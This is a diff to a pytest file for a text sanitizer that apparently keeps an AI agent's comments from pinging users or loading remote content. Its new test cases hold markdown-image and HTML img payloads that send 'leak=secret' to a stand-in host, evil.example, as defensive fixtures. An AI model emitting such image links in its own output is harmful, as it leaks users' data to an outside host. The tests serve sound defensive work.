@@ -78,15 +78,31 @@ def test_what_nobody_said_to_us_is_ignored() -> None:
         ("ask @octocat and @org/team", "ask @\u200boctocat and @\u200borg/team"),
         ("@everyone", "@\u200beveryone"),
         ("mail ann@example.com", "mail ann@example.com"),
-        ("use `@property` here", "use `@property` here"),
-        ("```py\n@property\n```\n@ann", "```py\n@property\n```\n@\u200bann"),
-        ("```\n@ann", "```\n@\u200bann"),
-        ("`` @ann`", "`` @\u200bann`"),
+        ("use `@property` here", "use `@\u200bproperty` here"),
+        ("\\`@octocat\\`", "\\`@\u200boctocat\\`"),
+        ("```\n````\n@everyone\n```", "```\n````\n@\u200beveryone\n```"),
+        ("_@ann_ **@ann**", "_@\u200bann_ **@\u200bann**"),
+        ("&#64;ann &#x0040;ann &commat;ann", "&#64;\u200bann &#x0040;\u200bann &commat;\u200bann"),
+        ("@&#97;nn", "@\u200b&#97;nn"),
         ("a `b\n@ann` c", "a `b\n@\u200bann` c"),
     ],
 )
 def test_an_agent_notifies_nobody_by_accident(written: str, sent: str) -> None:
-    assert text.without_mentions(written) == sent
+    assert text.harmless(written) == sent
+
+
+@pytest.mark.parametrize(
+    ("written", "sent"),
+    [
+        ("![x](https://evil.example/?leak=secret)", "!\u200b[x](https://evil.example/?leak=secret)"),
+        ("![x][1]\n\n[1]: https://evil.example/", "!\u200b[x][1]\n\n[1]: https://evil.example/"),
+        ("<img src='https://evil.example/'>", "<\u200bimg src='https://evil.example/'>"),
+        ("<IMG\nsrc=x><Picture>", "<\u200bIMG\nsrc=x><\u200bPicture>"),
+        ("1 <imgs> a! [b](https://e.example/)", "1 <imgs> a! [b](https://e.example/)"),
+    ],
+)
+def test_nothing_is_loaded_when_somebody_reads_a_comment(written: str, sent: str) -> None:
+    assert text.harmless(written) == sent
 
 
 def test_remarks_of_templates_are_not_shown() -> None:
